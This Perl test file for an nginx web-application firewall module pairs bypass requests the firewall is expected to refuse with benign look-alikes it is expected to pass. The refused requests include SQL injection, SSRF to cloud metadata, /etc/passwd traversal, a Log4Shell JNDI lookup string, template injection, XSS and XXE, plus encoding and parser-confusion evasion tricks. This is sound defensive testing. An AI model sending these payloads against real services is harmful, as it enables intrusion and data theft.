# Ways around a WAF, each class as requests that are refused and others that
# look like them and pass.  Under api_waf core; over HTTP/2 once more in
# bypass-http2.t; what is about chunks is in bypass-chunks.t.

use Test::Nginx::Socket 'no_plan';
use ApiTest;

# "--- refused" and "--- passed": requests separated by lines of two dots, each
# a line "METHOD PATH", header lines, an empty line, a body as it is.  A status
# in front of the method is another than 403.

custom_sections('refused', 'passed');

sub requests {
    my ($block, $section) = @_;
    my $text = $block->$section // '';
    my @found;

    for my $one (split /^\.\.\n/m, $text) {
        my ($head, $body) = split /\n\n/, $one, 2;
        my ($line, @fields) = split /\n/, $head;
        my $status = $line =~ s/^(\d+) // ? $1 : $section eq 'refused' ? 403 : 200;

        $body //= '';
        $body =~ s/\n\z// if $body !~ /\r\n\z/;
        push @fields, 'Content-Length: ' . length $body if length $body;
        push @found, [$status, length $body ? "$line\n$body" : $line,
            join "\n", 'Host: localhost', @fields];
    }

    return @found;
}

add_block_preprocessor(sub {
    my ($block) = @_;
    my @all = map { requests($block, $_) } 'refused', 'passed';

    $block->set_value(http_config => ($block->http_config // '') . <<'END');
    server {
        listen 127.0.0.1:$TEST_NGINX_RAND_PORT_1;
        access_log off;
        return 200 "up\n";
    }
END
    $block->set_value(config => ($block->config // '') . <<'END');
    location / {
        api_waf core;
        proxy_pass http://127.0.0.1:$TEST_NGINX_RAND_PORT_1;
    }
END
    $block->set_value(request => [map { $_->[1] } @all]);
    $block->set_value(more_headers => [map { $_->[2] } @all]);
    $block->set_value(error_code => [map { $_->[0] } @all]);
    $block->set_value(no_error_log => '[alert]');
});

no_root_location();
run_tests();

__DATA__

=== TEST 1: JSON in SQL
--- refused
GET /?q=1%20and%20'%7B%22a%22:1%7D'::jsonb%20@%3E%20'%7B%22a%22:1%7D'
..
POST /
Content-Type: application/json

{"q":"x' or json_keys('{\"a\":1}') like '%a%'--"}
..
POST /
Content-Type: application/json

{"q":"1 or data->>'a'='1'"}
..
POST /
Content-Type: application/x-www-form-urlencoded

q=1+or+openjson('[]')=1
--- passed
POST /
Content-Type: application/json

{"q":"{\"a\":1}","r":"data -> a, or b"}



=== TEST 2: JSON under another name
--- refused
POST /
Content-Type: text/plain

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/octet-stream

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/JSON

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/vnd.api+json; charset=utf-8

{"q":"1' or '1'='1"}
..
POST /

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/x-unknown

  {"q":"1' or '1'='1"}
--- passed
POST /
Content-Type: text/plain

{"q":"O'Brien"}
..
POST /
Content-Type: application/vnd.api+json

{"q":"O'Brien"}
..
POST /

just text, it's fine



=== TEST 3: a form under another name, another body under the name of a form
--- refused
POST /
Content-Type: application/x-www-form-urlencoded

{"url":"file:///etc/passwd"}
..
POST /
Content-Type: application/x-ndjson

{"a":1}
{"a":"http://169.254.169.254/latest/"}
..
POST /
Content-Type: application/octet-stream

{"index":{}}
{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/xml

<a b="{{7*7}}"/>
..
POST /
Content-Type: application/x-www-form-urlencoded; charset=utf-8

q=1'+or+'1'='1
..
POST /
Content-Type: APPLICATION/X-WWW-FORM-URLENCODED

q=1'+or+'1'='1
..
POST /
Content-Type: application/x-www-form-urlencoded

{"q":"1' or '1'='1"}
--- passed
POST /
Content-Type: application/x-www-form-urlencoded

q=O'Brien&{"q":"x"}
..
POST /
Content-Type: application/x-ndjson

{"name":"O'Brien & Sons"}
{"url":"https://example.org/"}
..
POST /
Content-Type: application/xml

<a b="{{name}}"/>



=== TEST 4: multipart as readers read it differently
--- refused eval
my $h = "POST /\nContent-Type: multipart/form-data; boundary=AbC\n\n";
my $p = "Content-Disposition: form-data; name=\"q\"";
my $bad = "1' or '1'='1";
CORE::join("..\n",
    "$h--AbC\r\n$p\r\n\r\n$bad\r\n--AbC--\r\n",
    "400 $h--AbC\n$p\n\nx\n--AbC--\n",
    "400 $h--AbC\r\nContent-Disposition: form-data;\r\n name=\"q\"\r\n\r\nx\r\n--AbC--\r\n",
    "400 $h--AbC\r\n$p\r\n\r\nx\r\n",
    "400 ${h}--AbC\r\nContent-Disposition: form-data; name=q; name=\"r\"\r\n\r\nx\r\n--AbC--\r\n",
    "400 POST /\nContent-Type: multipart/form-data; boundary=AbC; boundary=x\n\n--AbC\r\n$p\r\n\r\nx\r\n--AbC--\r\n",
    "400 POST /\nContent-Type: multipart/form-data\n\n--AbC\r\n$p\r\n\r\nx\r\n--AbC--\r\n",
    "${h}--AbC\r\n$p; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--AbC--\r\n")
--- passed eval
"POST /\nContent-Type: multipart/form-data; boundary=AbC\n\n--AbC\r\n"
. "Content-Disposition: form-data; name=\"q\"\r\n\r\nO'Brien\r\n--AbC\r\n"
. "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n"
. "Content-Type: image/png\r\n\r\nx\r\n--AbC--\r\n"



=== TEST 5: JSON as readers read it differently
--- refused eval
my $h = "POST /\nContent-Type: application/json\n\n";
CORE::join("..\n", map { "$_\n" }
    "400 $h" . '{"a":"x","a":"y"}',
    "400 $h" . '{"a":1} // x',
    "400 $h" . '{"a":/* x */1}',
    "400 $h" . '{"a":1}{"a":2}',
    "400 $h" . "{'a':1}",
    "400 $h" . '{"a":"\ud800"}',
    "400 $h" . "\xff\xfe{\0}\0",
    "400 $h" . '{"a":NaN}',
    "400 $h" . '{"a":1,}',
    $h . '{"a":"\u0031\u0027 or \u00271\u0027=\u00271"}',
    $h . '{"1\u0027 or 1=1--":"x"}',
    $h . '[[[[["1\' or \'1\'=\'1"]]]]]')
--- passed eval
my $h = "POST /\nContent-Type: application/json\n\n";
CORE::join("..\n", map { "$_\n" }
    $h . '{"a":"x","A":"y","b":1e5,"c":"\u00e9\ud83d\ude00"}',
    $h . '[[[[["1"]]]]]', $h . '"text"', $h . '12345678901234567890123')



=== TEST 6: XML
--- refused
POST /
Content-Type: application/xml

<!DOCTYPE a [<!ENTITY x "1">]><a>&x;</a>
..
POST /
Content-Type: application/xml

<a><![CDATA[1' or '1'='1]]></a>
..
POST /
Content-Type: text/xml

<a b="1' or '1'='1"/>
..
POST /
Content-Type: application/soap+xml

<a xmlns="x"><b>&#49;&#39; or &#39;1&#39;=&#39;1</b></a>
..
400 POST /
Content-Type: application/xml

<a><b></a>
--- passed
POST /
Content-Type: application/xml

<?xml version="1.0"?><a b="c"><![CDATA[O'Brien]]>&amp;</a>



=== TEST 7: size
--- refused eval
my $pad = 'x' x 200_000;
my $many = CORE::join '&', map { "a$_=1" } 1 .. 900;
CORE::join("..\n",
    "POST /\nContent-Type: application/json\n\n{\"p\":\"$pad\",\"q\":\"1' or '1'='1\"}\n",
    "POST /\nContent-Type: application/x-www-form-urlencoded\n\np=$pad&q=1'+or+'1'='1\n",
    "POST /\nContent-Type: application/x-www-form-urlencoded\n\n$many&q=1'+or+'1'='1\n",
    "POST /\nContent-Type: application/json\n\n{\"q\":\"" . ' ' x 100_000 . "1' or '1'='1\"}\n",
    "GET /\nCookie: " . CORE::join('; ', map { "c$_=1" } 1 .. 100) . "; q=1%27 or %271%27=%271\n",
    "403 POST /\nContent-Type: application/x-www-form-urlencoded\n\n"
        . CORE::join('&', map { "a$_=1" } 1 .. 1100) . "\n")
--- passed eval
my $pad = 'x' x 200_000;
"POST /\nContent-Type: application/json\n\n{\"p\":\"$pad\",\"q\":\"O'Brien\"}\n"



=== TEST 8: encodings
--- refused eval
CORE::join("..\n", map { "$_\n" }
    "GET /?q=1%2520or%25201%253D1",
    "GET /?q=1%u0020or%u00201%u003d1",
    "GET /?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
    "GET /?q=%C0%BCscript%C0%BE<script>",
    "GET /?q=1'%0Bor%0C'1'='1",
    "GET /?q=1'%a0or%a0'1'='1",
    "GET /?q=1%00'or'1'='1",
    "GET /?q=%3Ca%20href=%22java%26%23x09;script:alert(1)%22%3E",
    "415 POST /\nContent-Type: application/json; charset=ibm037\n\n{\"a\":1}",
    "415 POST /\nContent-Type: application/json; charset=\"utf-7\"\n\n{\"a\":1}",
    "415 POST /\nContent-Type: application/json\nContent-Encoding: gzip\n\n\x1f\x8b",
    "POST /\nContent-Type: application/json\n\n{\"a\":\"MScgb3IgJzEnPScxIC0tIHg=\"}")
--- passed eval
CORE::join("..\n", map { "$_\n" }
    "GET /?q=100%2525", "GET /?q=%EF%BC%A1%EF%BC%A2", "GET /?q=caf%C3%A9%20or%20bar",
    "POST /\nContent-Type: application/json; charset=UTF-8\n\n{\"a\":\"aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91\"}")



=== TEST 9: places
--- refused eval
CORE::join("..\n", map { "$_\n" }
    "GET /orders/1'%20or%20'1'='1",
    "GET /orders/1%2527%2520or%25201=1",
    "GET /orders;id=1%20union%20select%201,2/x",
    "GET /orders/1;drop%20table%20x",
    "GET /\nX-Forwarded-For: 1' or '1'='1",
    "GET /\nAuthorization: Basic YWRtaW4nLS06eA==",
    "GET /\nX-Original-URL: /admin",
    "GET /?q=1&q=x'%20or%20'a'='a",
    "GET /?user[\$ne]=x",
    "GET /?__proto__[x]=1",
    "GET /\nUser-Agent: \${\${lower:j}ndi:ldap://x.example/}",
    "GET /?u=http://169.254.169.254/latest/meta-data/",
    "GET /?u=http://[::ffff:a9fe:a9fe]/",
    "GET /?t={{7*7}}")
--- passed eval
CORE::join("..\n", map { "$_\n" }
    "GET /orders/1;v=2/x", "GET /orders/O%27Brien", "GET /\nX-Forwarded-For: 1.2.3.4",
    "GET /\nAuthorization: Basic YWRtaW46eA==", "GET /?q=1&q=2", "GET /?user[name]=x",
    "GET /?proto[x]=1", "GET /?u=https://example.com/latest/x", "GET /?t={{name}}")



=== TEST 10: GraphQL
--- refused
POST /graphql
Content-Type: application/json

{"query":"{user(id:\"1' or '1'='1\"){name}}"}
..
POST /graphql
Content-Type: application/graphql

{user(id:"1' or '1'='1"){name}}
..
POST /graphql
Content-Type: application/json

{"query":"query($i:ID!){user(id:$i){name}}","variables":{"i":"1' or '1'='1"}}
..
GET /graphql?query=%7Buser(id:%221'%20or%20'1'='1%22)%7Bname%7D%7D
--- passed
POST /graphql
Content-Type: application/json

{"query":"query($i:ID!){user(id:$i){name}}","variables":{"i":"O'Brien"}}
..
GET /graphql?query=%7Buser(id:%225%22)%7Bname%7D%7D



=== TEST 11: values that patterns are slow on are over soon
--- refused eval
"POST /\nContent-Type: application/json\n\n{\"q\":\"" . '${' x 20000 . "\"}\n"
--- passed eval
CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
    '{{' x 20000, '<a ' x 20000, 'a@' x 20000, '(a)(b' x 10000, '. ' x 20000,
    'query{' x 10000)
